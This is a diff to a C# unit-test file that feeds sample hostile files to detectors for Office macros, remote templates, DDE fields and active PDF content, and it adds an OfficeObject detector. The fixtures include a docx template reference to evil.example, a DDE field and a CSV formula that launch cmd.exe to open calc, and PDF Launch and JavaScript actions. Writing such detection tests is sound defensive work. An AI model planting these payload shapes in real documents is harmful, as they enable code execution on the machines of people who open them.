@@ -1,4 +1,5 @@
 using System.Diagnostics;
+using Platform.Benchmarks.Detection.Samples.Office.Writers;
 using Platform.Engine.Detectors;
 using Platform.Engine.Detectors.Files;
 using Platform.Engine.Detectors.LinkTargets;
@@ -9,7 +10,7 @@ namespace Platform.Engine.Tests.Detectors.Files;
 
 public sealed class FileSignsTests
 {
-    private static readonly IDetector[] Detectors = [new TestVirus(), new ExecutableFile(), new FileNames(), new EncryptedArchive(), new OfficeMacro(), new OfficeRemote(), new PdfActive(), new RiskyFile(), new HtmlSmuggling()];
+    private static readonly IDetector[] Detectors = [new TestVirus(), new ExecutableFile(), new FileNames(), new EncryptedArchive(), new OfficeMacro(), new OfficeRemote(), new OfficeObject(), new PdfActive(), new RiskyFile(), new HtmlSmuggling()];
 
     public static TheoryData<string, string, byte[]> Hostile => new()
     {
@@ -39,7 +40,7 @@ public sealed class FileSignsTests
         { "macro-document", "report.docx", TestFiles.Word(("word/vbaProject.bin", TestFiles.MacroProject)) },
         { "macro-document", "report.doc", TestFiles.Ole("_VBA_PROJECT") },
         { "external-template", "report.docx", TestFiles.Word(("word/_rels/settings.xml.rels", TestFiles.Text("<Relationships><Relationship Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"https://evil.example/t.dotm\" TargetMode=\"External\"/></Relationships>"))) },
-        { "dynamic-data-exchange", "list.csv", TestFiles.Text("name,value\n=cmd|'/C calc'!A0,1\n") },
+        { "dynamic-data-exchange", "report.docx", new OoxmlWriter().Document(OoxmlWriter.Field("DDE", "AUTO c:\\windows\\system32\\cmd.exe \"/k calc\"")).ToArray() },
         { "pdf-launch", "form.pdf", TestFiles.Pdf("/Type /Action /S /Launch /F (cmd.exe)") },
         { "pdf-javascript", "form.pdf", TestFiles.Pdf("/S /JavaScript /JS (app.alert(1))") },
         { "pdf-open-action", "form.pdf", TestFiles.Pdf("/OpenAction << /S /JavaScript /JS (1) >>") },
